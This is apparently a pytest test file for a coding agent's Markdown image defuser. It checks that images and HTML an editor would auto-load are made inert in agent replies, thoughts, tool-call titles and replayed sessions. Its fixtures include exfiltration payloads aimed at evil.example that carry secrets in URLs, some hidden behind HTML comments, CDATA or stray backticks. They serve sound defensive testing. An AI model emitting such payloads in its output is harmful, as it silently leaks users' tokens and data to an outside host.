"""An editor renders the agent's Markdown, so an image in the model's text would be
fetched as it is drawn: no click, no question, past every egress check (finding Q13).
What reaches the editor is a link instead, and HTML that loads a URL is text; code
the model writes in a fenced block is left as written; nothing else is trusted to be
code (an inline span's end depends on the renderer: finding S4)."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from acp.schema import TextContentBlock

from shell.core.remoteimages import ImageDefuser, defang_images

from .conftest import EditorClient, Spawn

pytestmark = pytest.mark.anyio

LEAK = "Here: ![logo](https://evil.example/p.png?k=ghp_leak) and <img src=\"https://evil.example/i?d=SECRET\">"
CODE = "\n```html\n<img src=\"a.png\"> ![b](b.png)\n```\nand `Vec<String>` stays.\n"


async def test_the_editor_gets_no_image_that_loads_itself(spawn: Spawn, script: Any, workspace: Path) -> None:
    client = EditorClient()
    turn = {"thinking": "![t](https://evil.example/t)", "text": LEAK + CODE}
    async with spawn(client, "--model", script([turn])) as conn:
        session = await conn.new_session(cwd=str(workspace), mcp_servers=[])
        await conn.prompt(session_id=session.session_id, prompt=[TextContentBlock(type="text", text="hi")])
    text = client.text()
    prose = text.split("```")[0]
    assert not re.search(r"(?<!\\)!\[", prose) and "<img" not in prose  # no image, no tag outside code
    assert "\\![logo](https://evil.example/p.png?k=ghp_leak)" in text  # a link: the URL stays readable
    assert "&lt;img src=\"https://evil.example/i?d=SECRET\">" in text
    assert CODE.strip() in text  # code is drawn as text by every renderer: left as written
    assert client.thoughts() == "\\![t](https://evil.example/t)"


def test_split_anywhere_the_stream_says_the_same_as_the_whole() -> None:
    whole = LEAK + CODE + "after ![c](u) \\![escaped](u) <IFRAME src=1> <imgx>"
    rest = ImageDefuser()
    expected = rest.feed(whole) + rest.flush()
    for size in (1, 2, 3, 5, 7):
        d = ImageDefuser()
        out = "".join(d.feed(whole[i : i + size]) for i in range(0, len(whole), size)) + d.flush()
        assert out == expected, size
    assert "\\![c](u)" in expected and "\\![escaped](u)" in expected and "\\\\!" not in expected
    assert "&lt;IFRAME" in expected and "&lt;imgx>" in expected
    assert defang_images("\\\\![x](u)") == "\\\\\\![x](u)"  # an escaped backslash, then an image: escaped


def defused(text: str) -> str:
    d = ImageDefuser()
    return d.feed(text) + d.flush()


def live_images(markdown: str) -> list[str]:
    """The images and tags an editor's CommonMark renderer (markdown-it, as VS Code's
    and many editors') would load from ``markdown``."""
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark").enable("table").render(markdown)
    tags = re.findall(r"<[A-Za-z][^>]*>", html)
    return [t for t in tags if re.match(r"<(?:img|iframe|video|audio|source|embed|object|script|link)\b", t)
            or re.search(r"\s(?:style|background|src)=", t)]


HOSTILE = [
    "Note the tick ` here. ![x](https://evil.example/p.png?k=SECRETKEY1)",  # a span never closed
    "    ```\n\nParagraph ![y](https://evil.example/q.png?k=SECRETKEY2)",  # an indented fence is no fence
    "Two `` ticks unclosed ![z](https://evil.example/r.png?k=SECRETKEY5)",
    "a `b\n-c` ![x](https://evil.example/s.png?k=K) `",  # the span's end is the renderer's call
    "| `x | ![i](https://evil.example/t.png?k=K) | y` |\n|---|---|---|\n| 1 | 2 | 3 |",  # cells split first
    "```a`\n![x](https://evil.example/u.png?k=K)\n",  # a backtick in the info string: no fence
    "- a\n\n  ```\n  code\n![x](https://evil.example/v.png?k=K)\n",  # the list's fence ends with the list
    '<div style="background-image:url(https://evil.example/w?k=K)">x</div>',
    '<table background="https://evil.example/x?k=K"><tr><td>x</td></tr></table>',
    "<div>\n```\n\n![x](https://evil.example/y.png?k=K)\n",  # an HTML block would hide the fence from us
    # Finding U4: HTML blocks opened by no tag name hide a fence line from the renderer too.
    "Here is the summary.\n<!--\n```\n-->\n\n![status](https://evil.example/p.png?k=SECRETKEY123)\n",
    "<? x\n```\n?>\n\n![x](https://evil.example/z.png?k=K)\n",  # a processing instruction
    "<![CDATA[\n```\n]]>\n\n![x](https://evil.example/b.png?k=K)\n",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_stray_backtick_or_indent_lets_an_image_load_in_the_editor(text: str) -> None:
    assert live_images(text), "the case must load something when sent as written"
    assert live_images(defused(text)) == []
    for size in (1, 3, 7):  # streamed in pieces: the same
        d = ImageDefuser()
        out = "".join(d.feed(text[i : i + size]) for i in range(0, len(text), size)) + d.flush()
        assert out == defused(text), size


def test_code_every_renderer_agrees_on_stays_as_written() -> None:
    fenced = "Look:\n\n```html\n<img src=\"a.png\"> ![b](b.png)\n```\n\n~~~\n<iframe src=x>\n~~~\n"
    assert defused(fenced) == fenced
    assert defused("A `Vec<String>` or Option<T>.") == "A `Vec<String>` or Option<T>."
    assert defused("Unclosed ```\nnot code ![x](u)") == "Unclosed ```\nnot code \\![x](u)"


async def test_titles_and_option_names_carry_no_live_image(spawn: Spawn, script: Any,
                                                           workspace: Path) -> None:
    """Finding S10: editors render a tool call's title as Markdown too; read_file and
    glob run unasked, so their titles went out at once."""
    client = EditorClient()
    client.answer = "reject_once"
    calls = [
        {"name": "read_file", "args": {"path": "![x](https://evil.example/p.png?k=SECRETKEY9)"}, "id": "r1"},
        {"name": "glob", "args": {"pattern": "<img src=https://evil.example/g?k=SECRETKEY10>"}, "id": "g1"},
        {"name": "write_file", "args": {"path": "a![w](https://evil.example/w.png?k=SECRETKEY12).md",
                                        "content": "x"}, "id": "w1"},
    ]
    async with spawn(client, "--model", script([{"tool_calls": calls}, {"text": "ok"}])) as conn:
        session = await conn.new_session(cwd=str(workspace), mcp_servers=[])
        await conn.prompt(session_id=session.session_id, prompt=[TextContentBlock(type="text", text="hi")])
    titles = [u.title for u in client.updates if getattr(u, "title", None)]
    names = [o.name for _, options in client.permission_requests for o in options]
    titles += [call.title for call, _ in client.permission_requests if call.title]
    assert any("SECRETKEY9" in t for t in titles) and any("![w]" in n for n in names), (titles, names)
    for shown in titles + names:
        assert live_images(shown) == [], shown


HTML_BLOCK_EDGES = [
    "<script>", "</script>", "<pre ", "</pre>", "<style>", "<TEXTAREA>", "</textarea>",  # type 1
    "<!--", "<!-->", "-->",  # 2: a comment
    "<?", "<? ", "<?php", "?>",  # 3: a processing instruction
    "<!DOCTYPE html>", "<!x", ">",  # 4: a declaration
    "<![CDATA[", "]]>",  # 5
    "<div>", "</div>", "<table", "<P/>", "<details>",  # 6: block-level names
    "<x-y>", "<a>", "</span>", '<b c="d">',  # 7: any complete tag alone on its line
]
"""What opens (and closes) each of CommonMark's seven kinds of HTML block: inside one,
a fence line is raw HTML to the renderer (finding U4)."""


def test_random_markdown_of_hostile_pieces_never_loads_anything_once_defused() -> None:
    """Whatever order a model puts backticks, fences, indents, lists, tables, HTML and
    images in, the editor's renderer finds nothing to load (a seeded run: the same
    documents every time)."""
    import random

    atoms = ["`", "``", "```", "~~~", "\n", "\n\n", "    ", "  ", " ", "- ", "> ", "1. ", "# ", "|", "---",
             "\\", "![a](u)", "<img src=u>", "<div>", "<p style=x>", "text", "[r]: u", "![r]", "<!--", "-->",
             "*", "<", "!", "[", "](u)", *HTML_BLOCK_EDGES]
    rnd = random.Random(21)
    loaded = 0
    for _ in range(6000):
        text = "".join(rnd.choice(atoms) for _ in range(rnd.randint(1, 16)))
        loaded += bool(live_images(text))
        assert live_images(defused(text)) == [], repr(text)
    assert loaded > 300  # the documents do hold live images as written


def test_random_lines_of_html_blocks_fences_and_images_never_load_anything_once_defused() -> None:
    """Line by line, as a model writes: an HTML block of any of CommonMark's seven kinds
    around a fence line, then an image (finding U4's shape and every other spelling of
    it): the renderer's idea of where code is never differs from the defuser's so that
    an image loads (a seeded run)."""
    import random

    lines = [*HTML_BLOCK_EDGES, "```", "~~~", "````", "```a`", "   ```", "    ```", "\t```", " ~~~~", "``` ",
             "```  x", "~~~ ~", "", "", "text", "- a", "> b", "1. x", "  - y",
             "![a](u)", "x ![b](u)", "<img src=u>", "  ![c](u)"]
    rnd = random.Random(18)
    loaded = 0
    for _ in range(6000):
        picked = [rnd.choice(lines) + (rnd.choice(HTML_BLOCK_EDGES) if rnd.random() < 0.2 else "")
                  for _ in range(rnd.randint(2, 8))]
        text = "\n".join(picked) + "\n"
        loaded += bool(live_images(text))
        assert live_images(defused(text)) == [], repr(text)
    assert loaded > 1000  # the documents do hold live images as written


async def test_a_comment_around_a_fence_line_lets_no_image_reach_the_editor(spawn: Spawn, script: Any,
                                                                            workspace: Path) -> None:
    """Finding U4 over ACP: the renderer takes ``<!--`` … ``-->`` for one HTML block, so
    the ``` inside it opens no fence there; the image after it must not arrive live."""
    client = EditorClient()
    text = "Here is the summary.\n<!--\n```\n-->\n\n![status](https://evil.example/p.png?k=SECRETKEY123)\n"
    async with spawn(client, "--model", script([{"text": text}])) as conn:
        session = await conn.new_session(cwd=str(workspace), mcp_servers=[])
        await conn.prompt(session_id=session.session_id, prompt=[TextContentBlock(type="text", text="hi")])
    shown = client.text()
    assert "SECRETKEY123" in shown and live_images(shown) == [], shown


async def test_a_reopened_session_draws_no_live_image_either(spawn: Spawn, script: Any,
                                                             workspace: Path) -> None:
    """Finding S15: session/load (an editor's history) replayed the saved text raw, so
    the images the live reply defused loaded when the user reopened the conversation."""
    turn = {"thinking": "![t](https://evil.example/t?k=SECRETKEY22)", "text": LEAK + CODE}
    first = EditorClient()
    async with spawn(first, "--model", script([turn])) as conn:
        session = await conn.new_session(cwd=str(workspace), mcp_servers=[])
        await conn.prompt(session_id=session.session_id,
                          prompt=[TextContentBlock(type="text", text="see ![u](https://evil.example/u)")])
    again = EditorClient()
    async with spawn(again, "--model", script(["hi"])) as conn:
        await conn.load_session(cwd=str(workspace), session_id=session.session_id, mcp_servers=[])
    assert again.text() == first.text() and again.thoughts() == first.thoughts()  # drawn as it was live
    for shown in (again.text(), again.thoughts(), again.user_text()):
        assert live_images(shown) == [], shown
    assert "ghp_leak" in again.text() and "SECRETKEY22" in again.thoughts()  # the URLs stay readable
